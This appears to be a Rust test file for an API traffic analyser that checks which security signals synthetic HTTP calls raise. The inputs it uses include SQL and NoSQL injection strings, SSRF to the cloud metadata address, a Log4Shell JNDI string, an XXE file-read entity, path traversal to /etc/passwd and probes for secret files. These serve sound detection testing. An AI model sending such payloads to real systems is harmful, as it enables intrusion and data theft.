//! Whole calls against the signals they raise.

use apitap_proto::v1;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use prost::Message as _;
use v1::signal::Severity;

use super::{Config, Level, SignalId};
use crate::redact::fuzz::{call, message};
use crate::redact::{self, Keys, Redactor};

type Fields<'a> = &'a [(&'a str, &'a str)];

/// The time at which these calls are made, in seconds.
const NOW: u64 = 1_700_000_000;

struct Made<'a> {
    asked: (&'a str, &'a str, Fields<'a>, &'a str),
    answered: (u16, Fields<'a>, &'a str),
}

fn raised_by(config: &Config, made: &Made<'_>) -> Vec<v1::Signal> {
    let (method, target, fields, body) = made.asked;
    let fields: Vec<_> = fields.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let request = message(method.as_bytes(), target.as_bytes(), &fields, body.as_bytes(), 0);
    let (status, fields, body) = made.answered;
    let fields: Vec<_> = fields.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
    let response = message(b"", b"", &fields, body.as_bytes(), status);
    let call = call(Some(request), Some(response));
    let keys = Keys::ephemeral().unwrap();
    let mut redactor = Redactor::new(&keys, &redact::Config::default()).signalling(config);
    let parts = redactor.redact(&call).into_parts();
    let signals = v1::CallRecord::decode(parts.rest).unwrap().signals;
    let counted = redactor.counts().signals.iter().map(|(_, count)| count).sum::<u64>();
    assert_eq!(counted, signals.len() as u64);
    signals
}

fn raised(
    method: &str,
    target: &str,
    fields: Fields<'_>,
    body: &str,
    answered: (u16, Fields<'_>, &str),
) -> Vec<String> {
    let made = Made { asked: (method, target, fields, body), answered };
    let signals = raised_by(&Config::default(), &made);
    signals
        .iter()
        .map(|signal| format!("{} {}", signal.id, signal.severity().as_str_name()))
        .collect()
}

const JSON: (&str, &str) = ("content-type", "application/json");
const PLAIN: (u16, Fields<'static>, &str) = (200, &[JSON], "{\"ok\":true}");

#[track_caller]
fn has(found: &[String], wanted: &str) {
    assert!(found.iter().any(|one| one == wanted), "{wanted} not in {found:?}");
}

fn bearer(header: &str, payload: &str) -> String {
    format!("Bearer {}.{}.c2ln", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(payload))
}

#[test]
fn an_ordinary_call_raises_nothing() {
    let fields = [
        ("host", "api.shop.example"),
        ("x-api-key", "k-123456789"),
        ("user-agent", "curl/8.5.0"),
        JSON,
    ];
    let answer = [
        JSON,
        ("server", "nginx"),
        ("cache-control", "no-store"),
        ("access-control-allow-origin", "*"),
    ];
    let body = r#"{"name":"a","note":"it's fine; or not","quantity":2}"#;
    let found = raised(
        "POST",
        "/v1/orders?limit=50",
        &fields,
        body,
        (201, &answer, r#"{"email":"kim@example.com"}"#),
    );
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn data_without_credentials() {
    let body = r#"{"ssn":"536-90-4399","email":"kim@example.com"}"#;
    let private = [JSON, ("cache-control", "private")];
    has(&raised("GET", "/v1/users/7", &[], "", (200, &private, body)), "auth.missing HIGH");
    has(&raised("GET", "/v1/users/7", &[], "", (200, &[JSON], body)), "data.cacheable LOW");
    for (fields, status, asked) in [
        (&[("authorization", "Bearer abcdef")] as Fields<'_>, 200, ""),
        (&[("cookie", "session=abcdefabcdef")], 200, ""),
        (&[], 404, ""),
        (&[JSON], 200, r#"{"password":"hunter2hunter2"}"#),
    ] {
        let found = raised("POST", "/v1/users/7", fields, asked, (status, &private, body));
        assert!(!found.iter().any(|id| id.starts_with("auth.missing")), "{found:?}");
    }
}

#[test]
fn credentials_and_data_in_urls() {
    has(
        &raised("GET", "/v1/a?access_token=abcdef0123456789", &[], "", PLAIN),
        "auth.credentials_in_url HIGH",
    );
    has(&raised("GET", "/v1/a?password=hunter2", &[], "", PLAIN), "auth.credentials_in_url HIGH");
    has(
        &raised("GET", "/v1/a?card=4111111111111111", &[], "", PLAIN),
        "data.sensitive_in_url MEDIUM",
    );
    has(&raised("GET", "/v1/a?email=kim@example.com", &[], "", PLAIN), "data.sensitive_in_url LOW");
    assert!(raised("GET", "/v1/a?page=2&sort=name", &[], "", PLAIN).is_empty());
}

#[test]
fn credentials_in_clear_text() {
    has(
        &raised("GET", "/v1/a", &[("authorization", "Basic a2ltOmh1bnRlcjI=")], "", PLAIN),
        "auth.basic_cleartext HIGH",
    );
    has(
        &raised("GET", "/v1/a", &[("authorization", "Bearer abcdef")], "", PLAIN),
        "auth.bearer_cleartext MEDIUM",
    );
    assert!(raised("GET", "/v1/a", &[("x-api-key", "abcdef012345")], "", PLAIN).is_empty());
}

#[test]
fn claims_of_tokens() {
    let with = |header: &str, payload: &str, status| {
        let token = bearer(header, payload);
        raised("GET", "/v1/a", &[("authorization", &token)], "", (status, &[JSON], "{}"))
    };
    let (past, soon, far) = (NOW - 10, NOW + 600, NOW + 90 * 24 * 3600);
    let good = format!(r#"{{"sub":"7","aud":"shop","iat":{NOW},"exp":{soon}}}"#);
    let hs = r#"{"alg":"HS256"}"#;
    has(&with(r#"{"alg":"none"}"#, &good, 200), "jwt.alg_none CRITICAL");
    has(&with(r#"{"alg":"None"}"#, &good, 401), "jwt.alg_none MEDIUM");
    has(&with(hs, &format!(r#"{{"aud":"shop","exp":{past}}}"#), 200), "jwt.expired_accepted HIGH");
    has(&with(hs, r#"{"aud":"shop"}"#, 200), "jwt.no_expiry MEDIUM");
    has(&with(hs, &format!(r#"{{"exp":{soon}}}"#), 200), "jwt.no_audience INFO");
    let long = format!(r#"{{"aud":"shop","iat":{NOW},"exp":{far}}}"#);
    has(&with(hs, &long, 200), "jwt.long_lived MEDIUM");
    has(&with(r#"{"alg":"RS256"}"#, &long, 200), "jwt.long_lived LOW");
    has(
        &with(r#"{"alg":"RS256","jku":"https://x.example/k"}"#, &good, 200),
        "jwt.key_in_header MEDIUM",
    );
    for (header, payload, status) in
        [(hs, good.as_str(), 200), (hs, &format!(r#"{{"exp":{past}}}"#), 401)]
    {
        let found = with(header, payload, status);
        assert!(!found.iter().any(|id| id.starts_with("jwt.")), "{found:?}");
    }
}

#[test]
fn cross_origin_rules() {
    let with = |origin: &str, allowed: &str, credentials: &str| {
        let answer = [
            ("access-control-allow-origin", allowed),
            ("access-control-allow-credentials", credentials),
        ];
        let fields = [("host", "api.shop.example:8080"), ("origin", origin)];
        raised("GET", "/v1/a", &fields, "", (200, &answer, ""))
    };
    has(&with("https://a.example", "*", "true"), "cors.wildcard_credentials MEDIUM");
    has(
        &with("https://evil.test", "https://evil.test", "true"),
        "cors.foreign_origin_credentials MEDIUM",
    );
    has(&with("null", "null", "true"), "cors.null_origin MEDIUM");
    for (origin, allowed, credentials) in [
        ("https://www.shop.example", "https://www.shop.example", "true"),
        ("https://evil.test", "https://evil.test", "false"),
        ("https://evil.test", "https://www.shop.example", "true"),
        ("https://evil.test", "*", "false"),
    ] {
        assert!(with(origin, allowed, credentials).is_empty(), "{origin} {allowed}");
    }
}

#[test]
fn cookies_and_fields() {
    let set = |value: &str| raised("GET", "/v1/a", &[], "", (200, &[("set-cookie", value)], ""));
    let all = ["cookie.no_httponly MEDIUM", "cookie.no_secure LOW", "cookie.no_samesite LOW"];
    let bare = set("session=0123456789abcdef; Path=/");
    all.iter().for_each(|id| has(&bare, id));
    for clean in [
        "session=0123456789abcdef; Path=/; HttpOnly; secure; SameSite=Lax",
        "theme=dark-and-blue; Path=/",
        "session=; Path=/",
        "session=0123456789abcdef; Max-Age=0",
        "csrf_token=0123456789abcdef",
    ] {
        assert!(set(clean).is_empty(), "{clean}");
    }
    let cookie = [("cookie", "session=0123456789abcdef")];
    has(&raised("GET", "/v1/a", &cookie, "", PLAIN), "header.no_nosniff INFO");
    let nosniff = [JSON, ("x-content-type-options", "nosniff")];
    assert!(raised("GET", "/v1/a", &cookie, "", (200, &nosniff, "{}")).is_empty());
    has(
        &raised("GET", "/v1/a", &[], "", (200, &[("Server", "nginx/1.18.0")], "")),
        "header.version_banner INFO",
    );
    assert!(raised("GET", "/v1/a", &[], "", (200, &[("server", "nginx")], "")).is_empty());
}

#[test]
fn methods_and_limits() {
    has(&raised("TRACE", "/v1/a", &[], "", PLAIN), "method.trace MEDIUM");
    has(&raised("TRACE", "/v1/a", &[], "", (405, &[], "")), "method.trace LOW");
    has(&raised("JEFF", "/v1/a", &[], "", PLAIN), "method.unusual LOW");
    has(
        &raised("POST", "/v1/a", &[("X-HTTP-Method-Override", "DELETE")], "", PLAIN),
        "method.override LOW",
    );
    has(&raised("POST", "/v1/a?_method=delete", &[], "", PLAIN), "method.override LOW");
    has(&raised("POST", "/v1/a", &[JSON], r#"{"_method":"PUT"}"#, PLAIN), "method.override LOW");
    let field = r#"{"_method":"card","pay":{"_method":"PUT"},"method":"PUT"}"#;
    assert!(raised("POST", "/v1/a", &[JSON], field, PLAIN).is_empty());
    has(&raised("GET", "/v1/a", &[], "", (429, &[], "")), "response.rate_limited INFO");
    has(&raised("GET", "/v1/a?limit=5000", &[], "", PLAIN), "request.page_size LOW");
    assert!(raised("PROPFIND", "/v1/a?limit=500", &[], "", PLAIN).is_empty());
}

#[test]
fn large_requests() {
    let post = |body: &str| raised("POST", "/graphql", &[JSON], body, PLAIN);
    let nested = |depth| {
        format!(r#"{{"query":"query A {{{}id{}}}"}}"#, "a{".repeat(depth), "}".repeat(depth))
    };
    has(&post(&nested(20)), "graphql.depth LOW");
    has(&post(&nested(40)), "graphql.depth MEDIUM");
    assert!(post(&nested(10)).is_empty());
    let aliases: Vec<String> = (0..60).map(|n| format!("a{n}: me {{ id }}")).collect();
    let query = |aliases: &[String]| format!(r#"{{"query":"{{ {} }}"}}"#, aliases.join(" "));
    has(&post(&query(&aliases)), "request.batch_size LOW");
    assert!(post(&query(&aliases[..40])).is_empty());
    let batch = |n| format!("[{}]", vec![r#"{"query":"{ me { id } }"}"#; n].join(","));
    has(&post(&batch(20)), "request.batch_size LOW");
    assert!(post(&batch(10)).is_empty());
    let calls: Vec<String> =
        (0..100).map(|n| format!(r#"{{"jsonrpc":"2.0","id":{n},"method":"a.get"}}"#)).collect();
    has(
        &raised("POST", "/rpc", &[JSON], &format!("[{}]", calls.join(",")), PLAIN),
        "request.batch_size LOW",
    );
    let items = |n| format!(r#"{{"items":[{}]}}"#, vec![r#"{"quantity":1}"#; n].join(","));
    has(&raised("POST", "/v1/orders", &[JSON], &items(1000), PLAIN), "request.batch_size LOW");
    assert!(raised("POST", "/v1/orders", &[JSON], &items(999), PLAIN).is_empty());
}

#[test]
fn more_than_was_asked_for() {
    let private = [JSON, ("cache-control", "no-store")];
    let with = |method: &str, target: &str, body: &str| {
        raised(method, target, &[("x-api-key", "abcdef012345")], "", (200, &private, body))
    };
    let one = r#"{"id":7,"email":"kim@example.com"}"#;
    let several = r#"{"id":7,"members":[{"email":"kim@example.com"},{"email":"lee@example.com"}]}"#;
    has(&with("GET", "/v1/orders/7", several), "data.beyond_request LOW");
    has(
        &with("GET", "/v1/orders/7?expand=all", &format!("[{one},{one}]")),
        "data.beyond_request LOW",
    );
    for (method, target, body) in [
        ("GET", "/v1/orders/7", one),
        // One address in a list is that of the object.
        ("GET", "/v1/orders/7", r#"{"contacts":[{"email":"kim@example.com"}]}"#),
        ("GET", "/v1/orders", several),
        ("POST", "/v1/orders/7", several),
        ("GET", "/v1/orders/7", r#"{"items":[{"sku":"a"},{"sku":"b"}]}"#),
    ] {
        let found = with(method, target, body);
        assert!(!found.iter().any(|id| id.starts_with("data.beyond")), "{method} {target} {body}");
    }
    let found = raised("GET", "/v1/orders/7", &[], "", (404, &private, several));
    assert!(!found.iter().any(|id| id.starts_with("data.beyond")));
}

#[test]
fn attempts_by_outcome() {
    let with = |status, answer| {
        raised("GET", "/v1/a?q=1'%20or%20'1'='1", &[], "", (status, &[JSON], answer))
    };
    has(&with(200, "{}"), "inject.sql MEDIUM");
    has(&with(400, "{}"), "inject.sql LOW");
    has(&with(500, "{}"), "inject.sql HIGH");
    has(&with(500, "You have an error in your SQL syntax"), "inject.sql CRITICAL");
    has(&with(500, "You have an error in your SQL syntax"), "error.database MEDIUM");
    let json = |body| raised("POST", "/v1/a", &[JSON], body, PLAIN);
    has(&json(r#"{"a":{"b":"x\" or \"1\"=\"1"}}"#), "inject.sql MEDIUM");
    has(&json(r#"{"user":"kim","pass":{"$ne":null}}"#), "inject.nosql MEDIUM");
    has(&json(r#"{"url":"http://169.254.169.254/latest/"}"#), "request.ssrf HIGH");
    has(&json(r#"{"name":"kim","is_admin":true}"#), "request.privileged_field MEDIUM");
    has(&json(r#"{"query":"{ __schema { types { name } } }"}"#), "graphql.introspection LOW");
    has(&raised("GET", "/v1/a?user[$ne]=x", &[], "", PLAIN), "inject.nosql MEDIUM");
    has(
        &raised("GET", "/static/..%2f..%2fetc/passwd", &[], "", (404, &[], "")),
        "inject.path_traversal LOW",
    );
    has(
        &raised("GET", "/v1/a", &[("user-agent", "${jndi:ldap://x.example/a}")], "", PLAIN),
        "inject.log4shell HIGH",
    );
    let xml =
        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>"#;
    has(
        &raised("POST", "/v1/a", &[("content-type", "application/xml")], xml, PLAIN),
        "inject.xml_entity MEDIUM",
    );
    // What an answer holds is no attempt.
    let answer = r#"{"text":"1' or '1'='1","is_admin":true,"url":"file:///etc/hosts"}"#;
    assert!(raised("POST", "/v1/a", &[JSON], "{}", (200, &[JSON], answer)).is_empty());
}

#[test]
fn paths_that_should_not_answer() {
    for (path, id) in [
        ("/.git/config", "path.secrets_exposed HIGH"),
        ("/shop/.env", "path.secrets_exposed HIGH"),
        ("/actuator/heapdump", "path.secrets_exposed HIGH"),
        ("/dump.sql", "path.secrets_exposed HIGH"),
        ("/actuator/mappings", "path.debug_exposed MEDIUM"),
        ("/Debug/pprof/heap", "path.debug_exposed MEDIUM"),
        ("/v2/api-docs", "path.documentation_exposed LOW"),
        ("/api/v0/users", "path.old_version LOW"),
    ] {
        has(&raised("GET", path, &[], "", PLAIN), id);
        assert!(raised("GET", path, &[], "", (404, &[], "")).is_empty(), "{path}");
    }
    for path in
        ["/actuator/health", "/v1/environment", "/v1/debugger", "/a/b/c/d/beta", "/v1/git/env"]
    {
        assert!(raised("GET", path, &[], "", PLAIN).is_empty(), "{path}");
    }
    let answer = [("sunset", "Sat, 31 Dec 2026 23:59:59 GMT")];
    has(&raised("GET", "/v1/a", &[], "", (200, &answer, "")), "api.deprecated LOW");
}

#[test]
fn what_answers_give_away() {
    let key = [("x-api-key", "abcdef012345")];
    let answer = |body: &str| raised("POST", "/v1/a", &key, "", (200, &[JSON], body));
    has(&answer(r#"{"user":{"password":"hunter2hunter"}}"#), "data.secret_returned HIGH");
    let about = r#"{"user":{"last_password_update":"2023-10-01T10:00:00Z","password_expired":false,"pin_attempts":2}}"#;
    assert!(answer(about).is_empty(), "{:?}", answer(about));
    let many: Vec<String> =
        (0..60).map(|n| format!(r#"{{"email":"kim{n}@example.com"}}"#)).collect();
    has(&answer(&format!("[{}]", many.join(","))), "data.bulk MEDIUM");
    assert!(answer(&format!("[{}]", many[..20].join(","))).is_empty());
    let all = r#"{"ssn":"536-90-4399","email":"kim@example.com","card":"4111111111111111","phone":"+82 10-9876-5432","iban":"DE89370400440532013000"}"#;
    has(&answer(all), "data.many_classes LOW");
}

#[test]
fn places_and_counts_are_told_values_are_not() {
    let body = r#"{"items":[{"url":"http://10.0.0.1/secretive"},{"url":"http://10.0.0.2/"}]}"#;
    let made = Made { asked: ("POST", "/v1/a", &[JSON], body), answered: PLAIN };
    let signals = raised_by(&Config::default(), &made);
    let [signal] = signals.as_slice() else { panic!("{} signals", signals.len()) };
    assert_eq!(
        (signal.id.as_str(), signal.kind.as_str(), signal.count),
        ("request.ssrf", "private_address", 2)
    );
    assert_eq!(signal.location, "request.body:$.items[].url");
    assert_eq!(signal.owasp, ["API7:2023"]);
}

#[test]
fn configured_signals() {
    let id = |name: &str| SignalId::try_from(name.to_owned()).unwrap();
    let made = Made { asked: ("TRACE", "/v1/a?limit=5000", &[], ""), answered: PLAIN };
    let told = |config: &Config| -> Vec<_> {
        raised_by(config, &made)
            .iter()
            .map(|signal| (signal.id.clone(), signal.severity()))
            .collect()
    };
    let (trace, page) = ("method.trace".to_owned(), "request.page_size".to_owned());
    assert_eq!(
        told(&Config::default()),
        [(trace.clone(), Severity::Medium), (page.clone(), Severity::Low)]
    );
    let config = Config { disabled: vec![id("method.trace")], ..Config::default() };
    assert_eq!(told(&config), [(page.clone(), Severity::Low)]);
    let config = Config {
        severity: [(id("request.page_size"), Level::Critical)].into(),
        ..Config::default()
    };
    assert_eq!(told(&config), [(page, Severity::Critical), (trace, Severity::Medium)]);
}

/// Ids of the signals that are worth an alert.
fn alerts(
    method: &str,
    target: &str,
    body: &str,
    answered: (u16, Fields<'_>, &str),
) -> Vec<String> {
    let fields: Fields<'_> = if body.is_empty() { &[] } else { &[JSON] };
    raised(method, target, fields, body, answered)
}

#[test]
fn who_gets_back_what_it_said_is_told_nothing_of_others() {
    let private = [JSON, ("cache-control", "no-store")];
    let missing = |method: &str, body: &str, answer: &str| {
        let found = alerts(method, "/v1/newsletter", body, (200, &private, answer));
        found.iter().any(|id| id == "auth.missing HIGH")
    };
    let kim = r#"{"email":"kim@example.com","phone":"+14155552671"}"#;
    assert!(!missing("POST", kim, r#"{"id":7,"contact":{"email":"kim@example.com"}}"#));
    assert!(!missing("PUT", kim, kim));
    for (method, body, answer) in [
        ("POST", kim, r#"{"email":"kim@example.com","also":"lee@example.com"}"#),
        ("POST", kim, r#"{"email":"kim@example.com","ssn":"536-90-4399"}"#),
        ("POST", kim, r#"[{"email":"kim@example.com"}]"#),
        ("POST", "", r#"{"email":"kim@example.com"}"#),
        ("GET", "", r#"{"email":"kim@example.com"}"#),
        ("GET", kim, r#"{"email":"kim@example.com"}"#),
    ] {
        assert!(missing(method, body, answer), "{method} {body} {answer}");
    }
    // What is looked up is not the caller's own.
    let asked = raised("GET", "/v1/users?email=kim@example.com", &[], "", (200, &private, kim));
    has(&asked, "auth.missing HIGH");
}

#[test]
fn addresses_of_machines_and_of_who_made_a_page_are_nobodys_data() {
    let get = |kind: &str, body: &str| {
        let fields = [("content-type", kind), ("cache-control", "no-store")];
        raised("GET", "/v1/a", &[], "", (200, &fields, body))
    };
    for body in
        [r#"{"address":"10.0.0.9"}"#, r#"{"remoteAddress":"2001:db8::1","Address":"10.1.0.1"}"#]
    {
        assert!(get("application/json", body).is_empty(), "{body}");
    }
    let page = "<html><body>Mail kim@example.com</body></html>";
    has(&get("text/html; charset=utf-8", page), "auth.missing LOW");
    has(&get("text/javascript", "/* kim@example.com */ var a = 1;"), "auth.missing LOW");
    has(&get("text/html", "<td>kim@example.com</td><td>536-90-4399</td>"), "auth.missing HIGH");
    has(&get("text/plain", "kim@example.com"), "auth.missing HIGH");
}

#[test]
fn pages_are_of_lists() {
    let large = |method: &str, target: &str, body: &str| {
        alerts(method, target, body, PLAIN).iter().any(|id| id == "request.page_size LOW")
    };
    for (target, body) in [
        ("/v1/a?limit=1000", ""),
        ("/v1/a?max_results=5000", ""),
        ("/v1/a?rows=5000&q=shoes", ""),
        ("/v1/a?$top=5000", ""),
        ("/v1/a?sort=name&first=5000", ""),
        ("/v1/search", r#"{"limit":5000,"query":"shoes"}"#),
        ("/v1/_search", r#"{"query":{"match":{"a":"b"}},"size":10000}"#),
        (
            "/graphql",
            r#"{"query":"query A($first:Int){a(first:$first){id}}","variables":{"first":5000}}"#,
        ),
    ] {
        let method = if body.is_empty() { "GET" } else { "POST" };
        assert!(large(method, target, body), "{target} {body}");
    }
    for (target, body) in [
        ("/v1/a?size=10485760", ""),
        ("/v1/a?top=1080&left=20", ""),
        ("/v1/cards", r#"{"limit":500000,"currency":"KRW"}"#),
        ("/v1/cards/7", r#"{"daily":{"limit":2000}}"#),
        ("/v1/uploads", r#"{"name":"a.bin","size":10485760}"#),
        ("/v1/disks", r#"{"disk":{"size":2000}}"#),
    ] {
        let method = if body.is_empty() { "GET" } else { "POST" };
        assert!(!large(method, target, body), "{target} {body}");
    }
}

#[test]
fn what_no_server_follows_is_no_forged_request() {
    let forged = |target: &str, body: &str| {
        let found = alerts("POST", target, body, PLAIN);
        found.iter().any(|id| id.starts_with("request.ssrf"))
    };
    let rpc =
        |params: &str| format!(r#"{{"jsonrpc":"2.0","id":1,"method":"a.b","params":{params}}}"#);
    for (target, body) in [
        ("/mcp", rpc(r#"{"uri":"file:///project/src/main.rs"}"#)),
        ("/mcp", rpc(r#"{"textDocument":{"uri":"file:///home/a.rs"}}"#)),
        ("/token?redirect_uri=http://127.0.0.1:51004/cb", "{}".into()),
        (
            "/csp",
            r#"{"csp-report":{"blocked-uri":"file:///x","document-uri":"http://localhost:3000/"}}"#
                .into(),
        ),
        ("/v1/chat", r#"{"text":"http://localhost:3000 does not load"}"#.into()),
    ] {
        assert!(!forged(target, &body), "{target} {body}");
    }
    for (target, body) in [
        ("/mcp", rpc(r#"{"url":"file:///etc/hosts"}"#)),
        ("/mcp", rpc(r#"{"uri":"gopher://10.0.0.1/"}"#)),
        ("/mcp", rpc(r#"{"uri":"http://127.0.0.1/"}"#)),
        ("/token?redirect_uri=http://169.254.169.254/", "{}".into()),
        ("/v1/import", r#"{"uri":"file:///project/a"}"#.into()),
        ("/v1/import", r#"{"url":" http://localhost/admin "}"#.into()),
    ] {
        assert!(forged(target, &body), "{target} {body}");
    }
    let sql =
        |text: &str| !alerts("POST", "/v1/a", &format!(r#"{{"q":"{text}"}}"#), PLAIN).is_empty();
    assert!(
        sql("1 and sleep(5)") && sql("1;select sleep(5-0)") && sql("benchmark(5000000,md5(1))")
    );
    assert!(!sql("I sleep(5 hours a night)"));
}

#[test]
fn sessions_in_header_fields_and_of_frameworks_are_credentials() {
    let private = [JSON, ("cache-control", "no-store")];
    let body = r#"{"email":"kim@example.com"}"#;
    let jwt = bearer(r#"{"alg":"ES256"}"#, r#"{"sub":"7"}"#);
    let jwt = jwt.strip_prefix("Bearer ").unwrap();
    let missing = |name: &str, value: &str| {
        let found = raised("GET", "/v1/users/7", &[(name, value)], "", (200, &private, body));
        found.iter().any(|id| id.starts_with("auth.missing"))
    };
    for (name, value) in [
        ("x-session-token", "abcdef0123456789"),
        ("x-parse-session-token", "r:abcdef0123456789"),
        ("x-goog-iap-jwt-assertion", jwt),
        ("cf-access-jwt-assertion", jwt),
        ("cookie", ".AspNetCore.Cookies=CfDJ8abcdef0123456789"),
        ("cookie", "wordpress_logged_in_a1=kim%7C1234567890%7Cabcdef"),
    ] {
        assert!(!missing(name, value), "{name}: {value}");
    }
    for (name, value) in [
        ("x-csrf-token", "abcdef0123456789"),
        ("mcp-session-id", "abcdef0123456789"),
        ("x-session-id", "abcdef0123456789"),
        ("x-note", jwt),
        ("x-request-id", "abcdef0123456789"),
        ("cookie", ".AspNetCore.Antiforgery.a=CfDJ8abcdef0123456789"),
        ("cookie", "logged_in=no"),
    ] {
        assert!(missing(name, value), "{name}: {value}");
    }
}
